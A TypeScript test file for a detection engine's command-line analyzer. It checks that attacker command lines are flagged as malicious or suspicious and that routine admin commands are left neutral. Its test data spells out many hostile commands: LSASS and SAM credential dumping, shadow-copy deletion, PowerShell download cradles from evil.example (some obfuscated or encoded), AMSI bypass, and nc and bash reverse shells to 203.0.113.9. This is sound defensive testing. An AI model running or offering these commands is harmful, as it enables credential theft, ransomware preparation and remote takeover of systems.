import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { commandLine, judgeCommandLine } from "../../../src/engine/analyzers/command-line.ts";
import { COMMAND_LINE_RULES } from "../../../src/engine/analyzers/command-line-rules.ts";
import { judge, WEIGHTS } from "../../../src/engine/domain/verdict.ts";
import { NOTHING, NOW } from "../../support/lab-capabilities.ts";
import { lookContext } from "../../support/look-context.ts";

const encode = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const rules = (line: string) => judgeCommandLine(line, NOW).map(({ raw }) => (raw as { rule?: string } | undefined)?.rule);
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";

test.each<[string, string, string]>([
  ["vssadmin.exe Delete Shadows /All /Quiet", "shadow-copy-deletion", "malicious"],
  ["wmic shadowcopy delete", "shadow-copy-deletion", "malicious"],
  ["powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}", "shadow-copy-deletion", "malicious"],
  ['v^ss^admin   delete   sha"d"ows', "shadow-copy-deletion", "malicious"],
  ["bcdedit /set {default} recoveryenabled No", "recovery-disabled", "malicious"],
  ["rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "lsass-dump", "malicious"],
  ["procdump64.exe -accepteula -ma lsass.exe out.dmp", "lsass-dump", "malicious"],
  ["mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "lsass-dump", "malicious"],
  ["reg save HKLM\\SAM C:\\temp\\sam.hiv", "credential-hives-saved", "malicious"],
  ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', "directory-database-copied", "malicious"],
  ["certutil -urlcache -split -f http://evil.example/a.exe a.exe", "certutil-download", "malicious"],
  ["certutil -decode a.txt a.exe", "certutil-decode", "suspicious"],
  ["mshta http://evil.example/a.hta", "mshta-remote", "malicious"],
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "rundll32-script", "malicious"],
  ["regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll", "regsvr32-remote", "malicious"],
  ["bitsadmin /transfer job /download http://evil.example/a.exe c:\\a.exe", "bitsadmin-download", "suspicious"],
  [`powershell -c "${cradle}"`, "download-cradle", "malicious"],
  ["powershell iwr https://evil.example/a | iex", "download-cradle", "malicious"],
  ["powershell Invoke-WebRequest https://packages.example/tool.msi -OutFile tool.msi", "powershell-download", "suspicious"],
  ["powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "amsi-bypass", "malicious"],
  ["powershell Set-MpPreference -DisableRealtimeMonitoring $true", "antivirus-weakened", "suspicious"],
  ["wevtutil cl Security", "event-log-cleared", "suspicious"],
  ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "reverse-shell", "malicious"],
  ["powershell -NoP -W Hidden -File C:\\Scripts\\a.ps1", "hidden-powershell", "suspicious"],
  ["vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", "shadow-copy-deletion", "malicious"],
  ["wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0", "shadow-copy-deletion", "malicious"],
  ["wbadmin delete catalog -quiet", "shadow-copy-deletion", "malicious"],
  ["cmd.exe /c vssadmin create shadow /for=C:", "shadow-copy-made", "suspicious"],
  [
    "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Temp\\n.dit",
    "directory-database-copied",
    "malicious",
  ],
  ["esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\n.dit", "directory-database-copied", "malicious"],
  ["python3 secretsdump.py contoso/adm@192.0.2.5 -just-dc-ntlm", "remote-secrets-dumped", "malicious"],
  ["Rubeus.exe kerberoast /outfile:hashes.txt", "remote-secrets-dumped", "malicious"],
  ["copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM .", "credential-hives-saved", "malicious"],
  ["rundll32.exe C:\\Users\\Public\\a.dll,Start", "rundll32-open-folder", "suspicious"],
  ["rundll32 \\\\203.0.113.9\\share\\a.dll,#1", "rundll32-open-folder", "suspicious"],
  ["regsvr32 /s C:\\Users\\mia\\AppData\\Local\\Temp\\a.dll", "regsvr32-open-folder", "suspicious"],
  [
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U a.exe",
    "installutil-uninstall",
    "suspicious",
  ],
  ["MSBuild.exe C:\\Users\\Public\\project.xml", "msbuild-open-folder", "suspicious"],
  ['wmic os get /format:"http://evil.example/a.xsl"', "wmic-stylesheet", "malicious"],
  ["wmic /node:ws-2 process call create notepad.exe", "wmi-process", "suspicious"],
  ["cmstp.exe /ni /s C:\\a\\profile.inf", "cmstp-profile", "suspicious"],
  ["msiexec /q /i http://evil.example/a.msi", "msiexec-remote", "suspicious"],
  ["bitsadmin /SetNotifyCmdLine job C:\\a.exe NULL", "bitsadmin-notify", "malicious"],
  ["curl -s http://evil.example/a.sh | sudo -E bash -", "piped-download", "suspicious"],
  ["wget -qO- http://evil.example/a|bash", "piped-download", "suspicious"],
  ['bash -c "$(curl -fsSL http://evil.example/a.sh)"', "piped-download", "suspicious"],
  ["curl http://evil.example/a -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x", "download-made-executable", "suspicious"],
  [
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0)'",
    "reverse-shell",
    "malicious",
  ],
  ["nc -e /bin/sh 203.0.113.9 443", "reverse-shell", "malicious"],
  ["nc64.exe 203.0.113.9 443 -e cmd.exe", "reverse-shell", "malicious"],
  ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f", "reverse-shell", "malicious"],
  [`echo ${Buffer.from("curl http://evil.example/a").toString("base64")} | base64 -d | sh`, "decoded-into-shell", "malicious"],
  ["powershell Add-MpPreference -ExclusionPath C:\\", "antivirus-weakened", "suspicious"],
  ["Set-MpPreference -ExclusionProcess a.exe", "antivirus-weakened", "suspicious"],
  ["sc.exe stop WinDefend", "antivirus-stopped", "malicious"],
  ["taskkill /f /im MsMpEng.exe", "antivirus-stopped", "malicious"],
  ["netsh advfirewall set allprofiles state off", "firewall-off", "suspicious"],
  ["fsutil usn deletejournal /D C:", "traces-erased", "suspicious"],
  ["history -c && rm -f ~/.bash_history", "traces-erased", "suspicious"],
  ["schtasks /create /tn Update /sc minute /tr C:\\Users\\Public\\u.exe", "task-from-open-folder", "suspicious"],
  [
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\Users\\Public\\u.exe",
    "run-key-from-open-folder",
    "suspicious",
  ],
  [
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
    "accessibility-debugger",
    "malicious",
  ],
  ['sc create upd binPath= "cmd.exe /c powershell -f C:\\a.ps1"', "service-runs-shell", "suspicious"],
  ["net localgroup administrators helper /add", "administrator-made", "suspicious"],
  ["rclone copy D:\\Finance mega:backup --multi-thread-streams 12", "data-carried-out", "suspicious"],
  ["osascript -e 'display dialog \"macOS needs your password\" with hidden answer'", "password-asked-by-script", "malicious"],
  ["cmd /c whoami & ipconfig /all & net user & nltest /domain_trusts", "discovery-burst", "suspicious"],
  [
    "powershell $a=[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t); VirtualAlloc; [Marshal]::Copy($c,0,$x,9)",
    "code-in-memory",
    "malicious",
  ],
  [`powershell ${"[char]73+".repeat(12)}[char]69`, "characters-by-number", "suspicious"],
  // Taken apart and put together again.
  ["%COMSPEC% /c v%windir:~9,1%sadmin delete shadows /all", "shadow-copy-deletion", "malicious"],
  ["cmd /c set x=vssadmin&& call %x% delete shadows /all", "shadow-copy-deletion", "malicious"],
  ["cmd /v:on /c set x=vss&& set y=admin&& !x!!y! delete shadows /all", "shadow-copy-deletion", "malicious"],
  ["powershell (New-Object Net.WebClient).('Down'+'load'+'String')('http://evil.example/a')|i`ex", "download-cradle", "malicious"],
  [`p^ow^er^shell -e^n^c ${encode(cradle)}`, "download-cradle", "malicious"],
  [
    `powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(cradle).toString("base64")}')))`,
    "download-cradle",
    "malicious",
  ],
])("%s: %s", (line, rule, label) => {
  const hit = judgeCommandLine(line, NOW).find(({ raw }) => (raw as { rule?: string } | undefined)?.rule === rule);
  expect(hit?.label).toBe(label);
  expect(hit?.technique).toMatch(/^T\d{4}/);
});

/** How Ansible starts its modules on Windows (docs.ansible.com/ansible/latest/os_guide/windows_winrm): encoded, and read from input. */
const ansible = `powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand ${encode(
  "&chcp.com 65001 > $null\n$wrapper = $input | Out-String\n$parts = $wrapper.Split(@('x'), 2)\n& ([ScriptBlock]::Create($parts[0]))",
)}`;

describe("what administrators and products write every day is not accused", () => {
  test.each([
    "",
    "git commit -e -m message",
    "git clone https://git.contoso.example/team/tool.git",
    "git -c core.quotepath=false log --history-minimum",
    "npm install --no-audit https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
    "node C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js run build",
    "npx tsc --noEmit",
    "docker run --rm -it -v /tmp/cache:/cache alpine sh -c 'apk add curl'",
    "docker compose -f docker-compose.yml up -d",
    "docker build -t app:1.2 https://git.contoso.example/team/app.git",
    "kubectl exec -it pod/web-0 -- bash",
    "kubectl apply -f https://k8s.contoso.example/ingress.yaml",
    "helm upgrade --install web ./chart --namespace prod",
    "curl -fsSL https://get.docker.com | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    "curl -o report.json https://api.contoso.example/v1/report",
    "wget -q https://downloads.contoso.example/agent.deb -O agent.deb",
    "timeout 1 bash -c 'echo > /dev/tcp/db.contoso.example/5432'",
    "bash -c 'until nc -z localhost 8080; do sleep 1; done'",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "python -m pip install --upgrade pip",
    "ansible-playbook -i inventory site.yml",
    ansible,
    "winrm quickconfig -q",
    "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
    "powershell.exe -NoProfile -Command Enter-PSSession -ComputerName SRV-FILE-01",
    "powershell.exe -File C:\\Scripts\\inventory.ps1",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    '"powershell.exe" -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\a_b.ps1"',
    "powershell.exe -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass & 'C:\\Windows\\CCM\\SystemTemp\\1f2e.ps1'",
    "C:\\Windows\\CCM\\CcmExec.exe",
    "C:\\Windows\\ccmsetup\\ccmsetup.exe /runservice",
    "C:\\Windows\\CCM\\SCNotification.exe",
    "msiexec.exe /i C:\\Windows\\ccmcache\\3\\7zip.msi /qn REBOOT=ReallySuppress",
    "msiexec /x {23170F69-40C1-2702-2301-000001000000} /quiet /norestart",
    "@powershell -NoProfile -ExecutionPolicy Bypass -Command \"[System.Net.ServicePointManager]::SecurityProtocol = 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"",
    "choco upgrade all -y --limit-output",
    "C:\\ProgramData\\chocolatey\\bin\\choco.exe install googlechrome -y --no-progress",
    "winget upgrade --all --silent --accept-source-agreements",
    '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe" startbackupjob 1',
    '"C:\\Program Files\\Veritas\\NetBackup\\bin\\bpbkar32.exe" -r 2592000 -ru root -dt 0',
    '"C:\\Program Files\\Bacula\\bacula-fd.exe" /service -c "C:\\Program Files\\Bacula\\bacula-fd.conf"',
    "wbadmin start backup -backupTarget:E: -include:C: -allCritical -quiet",
    "wbadmin delete backup -keepVersions:3 -quiet",
    "wbadmin get versions",
    "vssadmin list shadows",
    "vssadmin list writers",
    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
    "ntdsutil",
    "dcdiag /v",
    "repadmin /replsummary",
    "gpupdate /force",
    "nltest /dsgetdc:contoso.example",
    "whoami /groups",
    "ipconfig /all",
    "ipconfig /flushdns",
    "net use Z: \\\\srv-file-01\\share",
    "net stop spooler",
    "sc query WinDefend",
    "sc.exe config wuauserv start= auto",
    "tasklist /svc",
    "taskkill /f /im excel.exe",
    "netstat -ano",
    "netsh advfirewall firewall add rule name=sql dir=in action=allow protocol=TCP localport=1433",
    "wevtutil qe System /c:5 /f:text",
    "bcdedit /enum",
    "bcdedit /set hypervisorlaunchtype auto",
    "certutil -verify cert.cer",
    "certutil -hashfile setup.exe SHA256",
    "certutil -dump request.req",
    "rundll32.exe shell32.dll,Control_RunDLL",
    "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print01\\hp",
    "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {c82192ee}",
    "regsvr32 /s C:\\Windows\\System32\\vbscript.dll",
    "mshta.exe C:\\Program Files\\Vendor\\help.hta",
    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "reg save HKCU\\Software backup.hiv",
    "reg export HKLM\\SOFTWARE\\Contoso contoso.reg /y",
    "reg add HKLM\\SOFTWARE\\Policies\\Contoso /v Proxy /t REG_SZ /d http://proxy.contoso.example:8080 /f",
    "schtasks /run /tn \\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
    'schtasks /create /tn Backup /sc daily /tr "C:\\Program Files\\Contoso\\backup.exe"',
    "C:\\Program Files\\Internet Explorer\\iexplore.exe https://intranet.contoso.example",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en https://mail.contoso.example',
    '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\130.0\\updater.exe" --wake --system',
    '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler',
    '"C:\\Program Files\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe" /DeferredLaunch',
    "C:\\Windows\\System32\\usoclient.exe StartScan",
    '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate',
    'powershell.exe -NoProfile -WindowStyle Hidden -File "C:\\Program Files\\Vendor\\Update\\check.ps1"',
    '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE" -i MSSQLSERVER',
    'sqlcmd -S srv-db-01 -d Sales -Q "EXEC dbo.Rebuild" -b',
    '"C:\\Program Files\\Microsoft SQL Server\\160\\DTS\\Binn\\DTExec.exe" /ISSERVER "\\SSISDB\\Nightly"',
    "robocopy D:\\Data \\\\nas\\backup /MIR /R:1 /W:1 /LOG:C:\\Logs\\copy.txt",
    "rsync -av --delete /srv/ backup@nas.contoso.example:/srv/",
    "restic -r sftp:nas:/backup backup /home",
    "tar czf /tmp/logs.tgz /var/log",
    "systemctl restart nginx",
    "apt-get update && apt-get upgrade -y",
    "ssh admin@srv-01.contoso.example 'uptime'",
    "openssl x509 -in cert.pem -noout -text",
    "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d",
    "esentutl /g C:\\Windows\\NTDS\\ntds.dit",
    "procdump64.exe -ma w3wp.exe C:\\Dumps",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe C:\\Services\\Contoso.Service.exe",
    '"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe" Contoso.sln /m',
    "wmic bios get serialnumber",
    "wmic os get caption /format:list",
    "bitsadmin /list /allusers",
    "cmd.exe /c echo 100%% done %DATE% %USERNAME%",
    "osascript -e 'display notification \"Backup done\"'",
  ])("%s", (line) => {
    expect(judgeCommandLine(line, NOW)).toMatchObject([{ label: "neutral", weight: 0 }]);
  });
});

test("every rule says where it comes from, and none shares a name", () => {
  for (const { technique, source, does } of COMMAND_LINE_RULES) {
    expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/);
    expect(source).toMatch(/^https:\/\/(attack\.mitre\.org|lolbas-project\.github\.io)\/.+\/$/);
    expect(does).not.toMatch(/\.$|^The /);
  }
  expect(new Set(COMMAND_LINE_RULES.map(({ name }) => name)).size).toBe(COMMAND_LINE_RULES.length);
});

test("many weak signs in one line stay Suspicious", () => {
  const line =
    "powershell -nop -w hidden iwr http://evil.example/a -OutFile a; certutil -decode a b; wevtutil cl Security; netsh advfirewall set allprofiles state off; net localgroup administrators x /add";
  const seen = judgeCommandLine(line, NOW);
  expect(seen.length).toBeGreaterThan(5);
  expect(judge({ observations: seen, sourceFamilies: new Set(), trusted: true, now: NOW }).verdict).toBe("suspicious");
});

test("a known installer spares its own text only", () => {
  const install = "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))";
  expect(rules(`powershell ${install}`)).toEqual([undefined]);
  expect(rules(`powershell ${install}; ${cradle}`)).toContain("download-cradle");
  expect(rules("powershell iex (iwr evil.example/a) # https://community.chocolatey.org/install.ps1")).toContain("download-cradle");
});

test("what a real intrusion wrote turns a source's Suspicious into Malicious", () => {
  const source = {
    analyzer: "source",
    source: "alert:edr",
    family: "edr",
    label: "suspicious",
    weight: WEIGHTS.sourceSuspicious,
    text: "",
    at: NOW,
  } as const;
  const weigh = (line?: string) =>
    judge({
      observations: [source, ...(line ? judgeCommandLine(line, NOW) : [])],
      sourceFamilies: new Set(["edr"]),
      trusted: true,
      now: NOW,
    }).verdict;
  expect(weigh()).toBe("suspicious");
  expect(weigh("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full")).toBe("malicious");
  expect(weigh(ansible)).toBe("suspicious");
});

describe("encoded PowerShell", () => {
  test.each(["-e", "-ec", "-enc", "-EncodedCommand", "/e", "\u2013enc", "-e^n^c"])("is decoded under %s", (flag) => {
    expect(rules(`powershell.exe -nop ${flag} ${encode(cradle)}`)).toEqual(
      expect.arrayContaining(["download-cradle", "encoded-powershell"]),
    );
  });
  test("inside another one", () => {
    const inner = `powershell -enc ${encode("vssadmin delete shadows /all")}`;
    expect(rules(`powershell -enc ${encode(inner)}`)).toContain("shadow-copy-deletion");
  });
  test("harmless inside is told and accuses nobody; hidden twice is a weak sign", () => {
    const inner = encode("Get-Service | Out-File services.txt");
    expect(judgeCommandLine(`powershell -enc ${inner}`, NOW)).toMatchObject([{ label: "neutral", weight: 0, technique: "T1027.010" }]);
    expect(judgeCommandLine(`powershell -enc ${encode(`powershell -enc ${inner}`)}`, NOW)).toMatchObject([
      { label: "suspicious", weight: WEIGHTS.ruleWeak, technique: "T1027.010" },
    ]);
  });
  test("an execution policy is not an encoded command", () => {
    expect(rules("powershell -ex bypass -ep unrestricted")).toEqual([undefined]);
  });
  test("a rule votes once, inside and outside together", () => {
    const hits = rules(`powershell ${cradle}; powershell -enc ${encode(cradle)}`);
    expect(hits.filter((rule) => rule === "download-cradle")).toHaveLength(1);
  });
});

test("any text is judged, none throws", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300, unit: "binary" }), (line) => {
      expect(judgeCommandLine(line, NOW).length).toBeGreaterThan(0);
      judgeCommandLine(`powershell -enc ${line}`, NOW);
    }),
  );
});

test("hostile lines of the largest size come back: a backtracking pattern would run into the test's time-out", () => {
  const parts = [
    "iex",
    "lsass -",
    "powershell -e ",
    "vssadmin delete ",
    "\"^'",
    "AAAA",
    "%",
    "!a!",
    "set a=b&",
    "' + '",
    "|",
    "[char]",
    "base64 -d ",
  ];
  for (const part of parts) expect(judgeCommandLine(part.repeat(32_768), NOW).length).toBeGreaterThan(0);
  const pieces = fc.constantFrom(
    ...parts,
    "frombase64string(",
    "curl http://",
    "%comspec:~",
    "nc -e ",
    "a",
    " ",
    "\t",
    "\u00a0",
    "\u{10ffff}",
  );
  fc.assert(
    fc.property(fc.array(pieces, { minLength: 1, maxLength: 5 }), fc.integer({ min: 1, max: 8000 }), (some, times) => {
      expect(judgeCommandLine(some.join("").repeat(times).slice(0, 70_000), NOW).length).toBeGreaterThan(0);
    }),
    { numRuns: 40 },
  );
});

test("a process without a command line is not asked about", () => {
  const context = lookContext();
  expect(commandLine.looks({ kind: "process", name: "a.exe" }, NOTHING, context)).toEqual([]);
  expect(commandLine.looks({ kind: "process", commandLine: "a.exe" }, NOTHING, context)).toMatchObject([{ key: "command-line/air" }]);
});
